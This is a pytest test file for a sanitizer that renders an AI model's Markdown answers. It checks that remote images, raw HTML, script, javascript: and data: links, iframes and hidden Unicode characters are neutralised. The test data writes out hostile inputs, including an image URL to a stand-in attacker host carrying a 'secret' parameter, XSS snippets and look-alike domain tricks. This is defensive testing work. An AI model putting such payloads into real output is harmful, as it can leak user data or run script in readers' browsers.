"""Nothing that a stranger writes can load, link, hide or style anything on the page."""

import pytest

from ui.render import WORD_JOINER, label, plain, rich_text, visible
from ui.tree import Element, element, text_of, walk

EVIDENCE = "https://developers.google.com/search/docs/essentials/spam-policies"


def tags(markdown: str, *addresses: str) -> list[str]:
    """Return the tags of everything that the Markdown became."""
    return [part.tag for part in walk(element("div", *rich_text(markdown, addresses)))][1:]


def words(markdown: str, *addresses: str) -> str:
    """Return what a reader of the Markdown meets."""
    return "".join(map(text_of, rich_text(markdown, addresses)))


@pytest.mark.parametrize(
    "image",
    [
        "![](https://evil.example/p.png)",
        "![alt words](https://evil.example/p.png?d=secret)",
        "![x][1]\n\n[1]: https://evil.example/p.png",
        '<img src="https://evil.example/p.png">',
        "[![](https://evil.example/p.png)](https://evil.example)",
    ],
)
def test_images_are_dropped(image):
    """No form of a remote image becomes an element that could be fetched."""
    assert not {"img", "a"} & set(tags(image))


def test_half_an_image_is_text():
    """An image cut off in the middle, as streaming may show it, is only its characters."""
    assert words("See ![x](https://evil.example/p") == "See ![x](https://evil.example/p"


def test_html_is_shown_as_the_characters_it_is():
    """Raw HTML is neither an element nor swallowed: the reader sees what was written."""
    written = "Safe <script>alert(1)</script> <b onclick=x>bold</b>"

    assert tags(written) == []
    assert words(written) == written


@pytest.mark.parametrize(
    "link",
    [
        "[click](https://evil.example)",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        f"[click]({EVIDENCE}/../other)",
        f"[click]({EVIDENCE}?next=https://evil.example)",
        "[click][a]\n\n[a]: https://evil.example",
    ],
)
def test_links_outside_the_evidence_keep_only_their_words(link):
    """A link is live only when its exact address stands behind the answer."""
    assert "a" not in tags(link, EVIDENCE)
    assert "click" in words(link, EVIDENCE)


def test_the_link_of_the_evidence_stays():
    """An address of the answer's own sources is a link, in a new tab and without a referrer."""
    (link,) = [part for part in walk(element("p", *rich_text(f"[policy]({EVIDENCE})", [EVIDENCE]))) if part.tag == "a"]

    assert link.attributes == {"href": EVIDENCE, "target": "_blank", "rel": "noopener noreferrer nofollow"}


def test_bare_addresses_stay_text():
    """An address in the text is not turned into a link."""
    assert tags("Go to https://evil.example or www.evil.example now") == []


def test_structure_stays():
    """Lists, tables, emphasis and code of a model's answer are kept."""
    markdown = "1. *one*\n2. **two** `x`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```"

    assert {"ol", "li", "em", "strong", "code", "table", "th", "td", "pre"} <= set(tags(markdown))


def test_a_single_paragraph_has_no_element_of_its_own():
    """One sentence of Markdown can stand inside any block."""
    assert rich_text("Just words.") == ["Just words."]


def test_unknown_tags_never_appear():
    """Whatever is thrown at it, only the elements we draw come out."""
    hostile = "# h\n\n***\n\n> q\n\n<iframe src=x></iframe>\n\n- [x](vbscript:1)\n\n&lt;svg&gt; :red[x] $a$ ![](x)"
    kept = {"p", "ul", "ol", "li", "blockquote", "h3", "table", "strong", "em", "a", "code", "pre", "br"}

    assert set(tags(hostile)) <= kept


def test_streamed_words_lose_their_markup():
    """While an answer is written, escapes and markers are not shown, and nothing in it is an element."""
    assert plain("Usually *not*: rel\\_nofollow. [1] See ![x](http://e.example/a.png)") == (
        "Usually not: rel_nofollow. See "
    )


def test_hidden_characters_are_removed():
    """Zero-width characters, direction controls and the tag block cannot hide or reorder words."""
    assert visible("pa\u200bypal\u202e\u2066.com\U000e0041\ufe0f") == "paypal.com"


@pytest.mark.parametrize(
    "text", ["**bold** $x$", ":material/home: :red[x]", "# no heading", "[a](http://b.example)", "![](x)", "<b>", "`c`"]
)
def test_labels_escape_every_mark(text):
    """A widget's label shows exactly what was written: each mark is escaped, each directive broken."""
    shown = label(text)

    assert shown.replace(WORD_JOINER, "").replace("\\", "") == text
    assert ":m" not in shown.replace("\\", "")
    assert ":r" not in shown.replace("\\", "")


def test_an_element_leaves_empty_attributes_out():
    """An attribute without a value is not sent to the browser."""
    assert element("p", "x", cls="", aria_label="n") == Element("p", {"aria-label": "n"}, ("x",))
